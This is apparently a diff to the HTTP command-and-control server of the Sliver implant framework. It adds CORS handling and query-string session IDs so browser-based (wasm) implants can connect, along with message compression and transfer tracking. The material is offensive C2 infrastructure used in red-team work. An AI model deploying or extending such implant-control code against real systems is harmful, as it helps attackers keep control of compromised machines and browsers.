@@ -315,6 +315,14 @@ func (s *SliverHTTPC2) DefaultRespHeaders(next http.Handler) http.Handler {
 		resp.Header().Set("X-Powered-By", s.getPoweredByHeader())
 		resp.Header().Set("Cache-Control", "no-store, no-cache, must-revalidate")
 
+		// Browser (wasm) implants make cross-origin fetch() requests, which
+		// can only read the response when the origin is allowed. Native
+		// implants never send an Origin header so their traffic is unchanged.
+		if origin := req.Header.Get("Origin"); origin != "" {
+			resp.Header().Set("Access-Control-Allow-Origin", origin)
+			resp.Header().Set("Vary", "Origin")
+		}
+
 		switch uri := req.URL.Path; {
 		case strings.HasSuffix(uri, ".txt"):
 			resp.Header().Set("Content-type", "text/plain; charset=utf-8")
@@ -409,19 +417,27 @@ func (s *SliverHTTPC2) startSessionHandler(resp http.ResponseWriter, req *http.R
 	httpSession := newHTTPSession()
 	httpSession.Key, _ = cryptography.AESKeyFromBytes(sessionInit.Key)
 	checkin := time.Now()
-	httpSession.Session = core.Sessions.Add(&core.Session{
+	// The session is added to core.Sessions when the implant registers, beacons never do
+	httpSession.Session = &core.Session{
 		ID:            core.NextSessionID(),
 		Transport:     "http(s)",
 		RemoteAddress: req.RemoteAddr,
-		Send:          make(chan *sliverpb.Envelope, 16),
+		Send:          core.NewSendQueue(),
 		RespMutex:     &sync.RWMutex{},
 		Resp:          map[uint64]chan *sliverpb.Envelope{},
 		LastCheckin:   &checkin,
-	})
+
+		CheckinInterval: pollTimeout,
+		Compression:     negotiateCompression(sessionInit.Compression),
+	}
 	s.HTTPSessions.Add(httpSession)
 	httpLog.Infof("Started new session with http session id: %s", httpSession.ID)
 
-	ciphertext, err := cryptography.GCMEncrypt(httpSession.Key, []byte(httpSession.ID))
+	initResp := sessionInitResp(&sliverpb.SessionInitResp{
+		ID:          httpSession.ID,
+		Compression: httpSession.Session.Compression,
+	}, 0 < len(sessionInit.Compression))
+	ciphertext, err := cryptography.GCMEncrypt(httpSession.Key, initResp)
 	if err != nil {
 		httpLog.Info("Failed to encrypt session identifier")
 		resp.WriteHeader(404)
@@ -453,7 +469,9 @@ func (s *SliverHTTPC2) sessionHandler(resp http.ResponseWriter, req *http.Reques
 		resp.WriteHeader(404)
 		return
 	}
-	body, _ := ioutil.ReadAll(req.Body)
+	transfer := core.Transfers.Start(httpSession.Session, core.TransferRecv, 0, 0, req.ContentLength, 0)
+	body, err := ioutil.ReadAll(newTransferReader(req.Body, transfer))
+	transfer.Complete(err)
 	data, err := encoder.Decode(body)
 	if err != nil {
 		httpLog.Errorf("Failed to decode body %s", err)
@@ -474,6 +492,12 @@ func (s *SliverHTTPC2) sessionHandler(resp http.ResponseWriter, req *http.Reques
 	}
 	envelope := &sliverpb.Envelope{}
 	proto.Unmarshal(plaintext, envelope)
+	err = decompressEnvelope(httpSession.Session, envelope)
+	if err != nil {
+		httpLog.Warnf("Failed to decompress envelope %v", err)
+		resp.WriteHeader(404)
+		return
+	}
 
 	handlers := sliverHandlers.GetSessionHandlers()
 	if envelope.ID != 0 {
@@ -503,9 +527,12 @@ func (s *SliverHTTPC2) pollHandler(resp http.ResponseWriter, req *http.Request)
 	select {
 	case envelope := <-httpSession.Session.Send:
 		resp.WriteHeader(200)
-		envelopeData, _ := proto.Marshal(envelope)
+		envelopeData, _ := proto.Marshal(compressEnvelope(httpSession.Session, envelope))
 		data, _ := cryptography.GCMEncrypt(httpSession.Key, envelopeData)
-		resp.Write(encoder.Encode(data))
+		encoded := encoder.Encode(data)
+		transfer := core.Transfers.Start(httpSession.Session, core.TransferSend, envelope.ID, envelope.Type, int64(len(encoded)), 0)
+		_, err := newTransferWriter(envelopeWriter(resp, envelope), transfer).Write(encoded)
+		transfer.Complete(err)
 	case <-time.After(pollTimeout):
 		httpLog.Debug("Poll time out")
 		resp.WriteHeader(201)
@@ -534,7 +561,7 @@ func (s *SliverHTTPC2) stopHandler(resp http.ResponseWriter, req *http.Request)
 		return
 	}
 
-	core.Sessions.Remove(httpSession.Session.ID)
+	core.Sessions.RemoveSession(httpSession.Session)
 	s.HTTPSessions.Remove(httpSession.ID)
 	resp.WriteHeader(200)
 }
@@ -556,13 +583,21 @@ func (s *SliverHTTPC2) getHTTPSession(req *http.Request) *HTTPSession {
 		if cookie.Name == sessionCookieName {
 			httpSession := s.HTTPSessions.Get(cookie.Value)
 			if httpSession != nil {
-				checkin := time.Now()
-				httpSession.Session.LastCheckin = &checkin
+				httpSession.Session.Checkin()
 				return httpSession
 			}
 			return nil
 		}
 	}
+	// Fetch-based (wasm) implants cannot rely on a cookie jar, so they pass
+	// the session ID as a query parameter in the style of PHP's trans-sid
+	if sessionID := req.URL.Query().Get(sessionCookieName); sessionID != "" {
+		httpSession := s.HTTPSessions.Get(sessionID)
+		if httpSession != nil {
+			httpSession.Session.Checkin()
+			return httpSession
+		}
+	}
 	return nil // No valid cookie names
 }
 